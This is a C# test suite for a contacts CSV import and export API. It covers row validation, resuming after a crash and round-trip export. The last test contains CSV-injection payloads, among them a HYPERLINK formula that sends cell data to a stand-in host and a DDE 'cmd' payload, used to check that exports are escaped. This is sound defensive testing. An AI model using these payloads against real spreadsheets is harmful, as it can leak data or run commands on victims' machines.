using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Switchboard.Contacts;
using Switchboard.Platform.Database;
using Switchboard.Platform.Jobs;
using Switchboard.Tests.Infrastructure;

namespace Switchboard.Tests;

[Collection(ServerCollection.Name)]
public sealed class ImportTests(Servers servers)
{
    private static async Task<JsonObject> UploadAsync(HttpClient api, string csv, HttpStatusCode expected = HttpStatusCode.Accepted, byte[]? bytes = null)
    {
        var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(bytes ?? Encoding.UTF8.GetBytes(csv));
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        form.Add(file, "file", "contacts.csv");
        return await (await api.PostAsync("/api/v1/contacts/imports", form)).JsonAsync(expected);
    }

    private static async Task<JsonObject> WaitForAsync(HttpClient api, long importId)
    {
        for (var i = 0; i < 300; i++)
        {
            var import = await api.GetJsonAsync($"/api/v1/contacts/imports/{importId}");
            if (import["status"]!.GetValue<string>() is "completed" or "failed")
                return import;
            await Task.Delay(100);
        }
        throw new TimeoutException($"Import {importId} did not finish.");
    }

    [Theory, Providers]
    public async Task AnImport_UpsertsGoodRows_AndReportsEachBadRowWithItsReason(DatabaseProvider provider)
    {
        var tenant = await (await servers.ForAsync(provider)).CreateTenantAsync();
        var api = tenant.Owner;
        await api.PostJsonAsync("/api/v1/departments", new { name = "Sales" }, HttpStatusCode.Created);
        var existing = await api.PostJsonAsync("/api/v1/contacts", new { name = "Old Name", phone = "+15551230001", tags = new[] { "kept" } }, HttpStatusCode.Created);
        var csv = """
            name,phone,email,tags,departments,opt_in_sms,attr.plan
            New Name,+1 555 123 0001,,vip,Sales,yes,gold
            Bob,+15551230002,bob@example.com,,,,
            Bad Phone,12345,,,,,
            ,+15551230003,,,,,
            Maybe,+15551230004,,,,maybe,
            Lost,+15551230005,,,Nowhere,,
            Bob Again,,BOB@example.com,b,,no,
            """ + "\nNul\0Row,+15551230006,,,,,";
        var accepted = await UploadAsync(api, csv);
        Assert.Equal("queued", accepted["status"]!.GetValue<string>());
        var done = await WaitForAsync(api, accepted.Id());

        Assert.Equal("completed", done["status"]!.GetValue<string>());
        Assert.Equal(8, done["rowsProcessed"]!.GetValue<long>());
        Assert.Equal(1, done["rowsCreated"]!.GetValue<long>());
        Assert.Equal(2, done["rowsUpdated"]!.GetValue<long>());
        Assert.Equal(5, done["rowsRejected"]!.GetValue<long>());
        Assert.Equal(done["bytesTotal"]!.GetValue<long>(), done["bytesProcessed"]!.GetValue<long>());
        var errors = done["errors"]!.AsArray().Select(e => (Row: e!["row"]!.GetValue<long>(), Field: e["field"]?.GetValue<string>())).ToList();
        Assert.Equal([(4L, "phone"), (5L, "name"), (6L, "opt_in_sms"), (7L, "departments"), (9L, null)], errors);

        var updated = await api.GetJsonAsync($"/api/v1/contacts/{existing.Id()}");
        Assert.Equal("New Name", updated["name"]!.GetValue<string>());
        Assert.Equal(["kept", "vip"], updated["tags"]!.AsArray().Select(t => t!.GetValue<string>()));
        Assert.True(updated["optIns"]!["sms"]!["optedIn"]!.GetValue<bool>());
        Assert.Equal("gold", updated["customAttributes"]!["plan"]!.GetValue<string>());
        Assert.Single(updated["departmentIds"]!.AsArray());
        var bob = (await api.GetJsonAsync("/api/v1/contacts?q=bob@example.com")).Items().Single()!;
        Assert.Equal("Bob Again", bob["name"]!.GetValue<string>());
        Assert.False(bob["optIns"]!["sms"]!["optedIn"]!.GetValue<bool>());
    }

    [Theory, Providers]
    public async Task AFileWithAnUnusableHeader_OrNotUtf8_IsRefusedAtOnce(DatabaseProvider provider)
    {
        var tenant = await (await servers.ForAsync(provider)).CreateTenantAsync();
        var wrongHeader = await UploadAsync(tenant.Owner, "full_name,telephone\nAda,+15550000001\n", HttpStatusCode.BadRequest);
        Assert.Contains("unknown columns: full_name, telephone", wrongHeader["detail"]!.GetValue<string>());
        var latin1 = Encoding.Latin1.GetBytes("name,phone,pr\u00e9nom\nAda,+15550000001,x\n");
        var notUtf8 = await UploadAsync(tenant.Owner, "", HttpStatusCode.BadRequest, latin1);
        Assert.Contains("not UTF-8", notUtf8["detail"]!.GetValue<string>());
        await UploadAsync(tenant.Owner, "", HttpStatusCode.BadRequest, []);
        Assert.Empty((await tenant.Owner.GetJsonAsync("/api/v1/contacts/imports")).Items());
    }

    [Theory, Providers]
    public async Task AnInterruptedImport_ResumesFromItsLastCheckpoint_WithoutApplyingRowsTwice(DatabaseProvider provider)
    {
        // The job worker is off here so the test drives the job by hand and can "crash" it between batches.
        await using var database = await TestDatabase.CreateAsync(provider);
        await using var factory = new SwitchboardFactory(database, new Dictionary<string, string?> { ["Jobs:Enabled"] = "false" });
        var tenant = await factory.CreateTenantAsync();
        var rows = ContactImportJob.BatchSize * 2 + 17;
        var csv = new StringBuilder("name,phone,tags\n");
        for (var i = 0; i < rows; i++)
            csv.Append($"Person {i},+1555{i:0000000},t\n");
        var import = await (await tenant.Owner.PostAsync("/api/v1/contacts/imports", new StringContent(csv.ToString(), Encoding.UTF8, "text/csv")))
            .JsonAsync(HttpStatusCode.Accepted);

        var crash = new InvalidOperationException("node died");
        var thrown = await Assert.ThrowsAsync<InvalidOperationException>(() => RunImportJobAsync(factory, tenant.Id, import.Id(), crash));
        Assert.Same(crash, thrown);
        var checkpoint = await tenant.Owner.GetJsonAsync($"/api/v1/contacts/imports/{import.Id()}");
        Assert.Equal(ContactImportJob.BatchSize, checkpoint["rowsProcessed"]!.GetValue<long>());
        Assert.Equal("running", checkpoint["status"]!.GetValue<string>());

        await RunImportJobAsync(factory, tenant.Id, import.Id());
        var done = await tenant.Owner.GetJsonAsync($"/api/v1/contacts/imports/{import.Id()}");
        Assert.Equal("completed", done["status"]!.GetValue<string>());
        Assert.Equal(rows, done["rowsCreated"]!.GetValue<long>());
        Assert.Equal(0, done["rowsUpdated"]!.GetValue<long>());
        var count = await factory.InTenantAsync(tenant.Id, services => services.GetRequiredService<SwitchboardDbContext>().Contacts.CountAsync());
        Assert.Equal(rows, count);

        // Running the finished job again (a duplicate delivery) changes nothing.
        await RunImportJobAsync(factory, tenant.Id, import.Id());
        Assert.Equal(rows, (await tenant.Owner.GetJsonAsync($"/api/v1/contacts/imports/{import.Id()}"))["rowsCreated"]!.GetValue<long>());
    }

    /// <summary>Runs the import's job by hand; with <paramref name="crash"/>, the node "dies" as it saves the second batch.</summary>
    private static Task<int> RunImportJobAsync(SwitchboardFactory factory, long tenantId, long importId, Exception? crash = null) =>
        factory.InTenantAsync(tenantId, async services =>
        {
            var db = services.GetRequiredService<SwitchboardDbContext>();
            var job = await db.Jobs.SingleAsync(j => j.Type == ContactImportJob.JobType && j.TenantId == tenantId);
            Assert.Contains($"\"importId\":{importId}", job.Payload);
            if (crash is not null)
                db.SavingChanges += (_, _) =>
                {
                    if (db.ChangeTracker.Entries<ContactImport>().Any(e => e.Entity.RowsProcessed > ContactImportJob.BatchSize))
                        throw crash;
                };
            var handler = services.GetServices<IJobHandler>().Single(h => h.Type == ContactImportJob.JobType);
            await handler.RunAsync(job, CancellationToken.None);
            return 0;
        });

    [Theory, Providers]
    public async Task AnImportedFile_ExportsAndImportsBack_Unchanged(DatabaseProvider provider)
    {
        var factory = await servers.ForAsync(provider);
        var source = await factory.CreateTenantAsync();
        await source.Owner.PostJsonAsync("/api/v1/contacts", new
        {
            name = "Round Trip", phone = "+15559990001", email = "rt@example.com", extraPhones = new[] { "+15559990002" }, tags = new[] { "x", "y" },
            optIns = new { email = new { optedIn = true } }, customAttributes = new { tier = 2 },
            banking = new { bankName = "Bank", accountNumber = "99887766" },
        }, HttpStatusCode.Created);
        var exported = await source.Owner.GetStringAsync("/api/v1/contacts/export");

        var target = await factory.CreateTenantAsync();
        var import = await UploadAsync(target.Owner, exported);
        Assert.Equal(1, (await WaitForAsync(target.Owner, import.Id()))["rowsCreated"]!.GetValue<long>());
        var copy = (await target.Owner.GetJsonAsync("/api/v1/contacts")).Items().Single()!.AsObject();
        var original = (await source.Owner.GetJsonAsync("/api/v1/contacts")).Items().Single()!.AsObject();
        foreach (var field in new[] { "name", "phone", "email", "extraPhones", "waId", "tags", "customAttributes", "banking" })
            Assert.Equal(original[field]!.ToJsonString(), copy[field]!.ToJsonString());
        Assert.True(copy["optIns"]!["email"]!["optedIn"]!.GetValue<bool>());
    }

    /// <summary>CSV injection: a customer picks their own name (a web-chat visitor types it), and the admin opens the export in
    /// a spreadsheet next to banking columns. Every cell a spreadsheet would run is written as text, and imports back as it was.</summary>
    [Theory, Providers]
    public async Task CellsASpreadsheetWouldRun_AreExportedAsText_AndImportBackUnchanged(DatabaseProvider provider)
    {
        var factory = await servers.ForAsync(provider);
        var source = await factory.CreateTenantAsync();
        string[] formulas = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];
        for (var i = 0; i < formulas.Length; i++)
        {
            await source.Owner.PostJsonAsync("/api/v1/contacts", new
            {
                name = formulas[i], email = $"visitor{i}@example.com", customAttributes = new { note = formulas[i] },
                banking = new { bankName = "Bank", accountNumber = "99887766" },
            }, HttpStatusCode.Created);
        }
        var exported = await source.Owner.GetStringAsync("/api/v1/contacts/export");

        using (var csv = new CsvHelper.CsvReader(new StringReader(exported), System.Globalization.CultureInfo.InvariantCulture))
        {
            var rows = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
            Assert.Equal(formulas.Length, rows.Count);
            Assert.Equal(formulas.Select(f => "'" + f).Order(), rows.Select(r => (string)r["name"]).Order());
            Assert.All(rows.SelectMany(r => r.Values).OfType<string>(), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
        }

        var target = await factory.CreateTenantAsync();
        var import = await UploadAsync(target.Owner, exported);
        Assert.Equal(formulas.Length, (await WaitForAsync(target.Owner, import.Id()))["rowsCreated"]!.GetValue<long>());
        var names = (await target.Owner.GetJsonAsync("/api/v1/contacts")).Items().Select(c => c!["name"]!.GetValue<string>());
        Assert.Equal(formulas.Order(), names.Order());
    }
}
